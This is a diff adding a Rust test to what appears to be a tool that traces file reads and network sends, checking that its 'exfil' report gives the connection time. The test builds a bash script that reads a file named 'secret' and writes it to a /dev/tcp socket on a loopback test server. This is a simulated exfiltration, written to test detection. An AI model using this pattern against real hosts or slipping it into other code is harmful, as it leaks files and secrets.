@@ -1,6 +1,7 @@
 //! `of` and `uses` at the level of steps.
 
 use crate::Place;
+use crate::hunt::LoopbackServer;
 
 /// Copies 40 files, joins the copies and counts their lines, with a look-up that is of no use.
 fn recorded() -> Place {
@@ -399,6 +400,30 @@ fn uses_names_the_peer_that_content_went_to() {
         "{}",
         reply.out
     );
+}
+
+#[test]
+fn exfil_has_the_time_of_the_connection() {
+    if !backstory_testkit::need::needs("a client", &["bash"]) {
+        return;
+    }
+    let place = Place::new();
+    let server = LoopbackServer::new(1, "");
+    place.write("secret", "s\n");
+    // The shell reads the file in a later second than it began.
+    let wait = "printf -v a '%(%s)T'; b=$a; while [ $b = $a ]; do printf -v b '%(%s)T'; done";
+    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{}", server.port);
+    let send = format!("{wait}\n{connect}\nread x < secret; echo $x >&3\n");
+    place.write("send.sh", &send);
+    place.record("bash send.sh");
+    server.end();
+    let ends = place.json(&["exfil", "secret", "--json"]);
+    let second = |name: &str| ends[0][name].as_f64().unwrap().floor();
+    assert!(second("start") < second("time"), "{ends}");
+    assert!(second("time") <= second("end"), "{ends}");
+    let text = place.run(&["exfil", "secret"]).out;
+    let shown = format!(":{:02}, run ", second("time") as i64 % 60);
+    assert!(text.contains(&shown), "{text} {ends}");
 }
 
 #[test]
